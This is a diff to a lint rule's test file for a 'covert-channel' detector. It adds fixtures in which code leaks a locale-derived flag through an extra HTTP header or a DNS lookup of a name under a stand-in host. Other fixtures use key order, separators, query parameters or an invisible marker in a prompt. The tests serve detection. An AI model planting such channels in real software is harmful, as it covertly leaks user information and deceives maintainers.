@@ -48,7 +48,9 @@ ruleTester('covert-channel', {
       ['key order', `const body = cn ? { model: "m", stream: true } : { stream: true, model: "m" };`, /order of the keys/],
       ['a steered separator', `const d = new Date().toISOString().slice(0, 10).split("-").join(cn ? "/" : "-");`, /"-" becomes "\/"/],
       ['a query parameter', `fetch("https://api.example.com/v1/chat?x=1" + (cn ? "&r=1" : ""), { method: "POST" });`, /query parameter "&r=1"/],
-    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: 3, message }] })),
+      ['an extra header', `const base = { "content-type": "application/json" };\nfetch("https://api.example.com", { headers: cn ? { ...base, "x-r": "1" } : base });`, /extra field "x-r"/],
+      ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
+    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.includes('const base') ? 4 : 3, message }] })),
     // An invisible marker put into English text when the locale is Chinese: no typography of Chinese.
     {
       code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst p = zh ? "You are a helpful assistant.\\u00A0" : "You are a helpful assistant.";`,
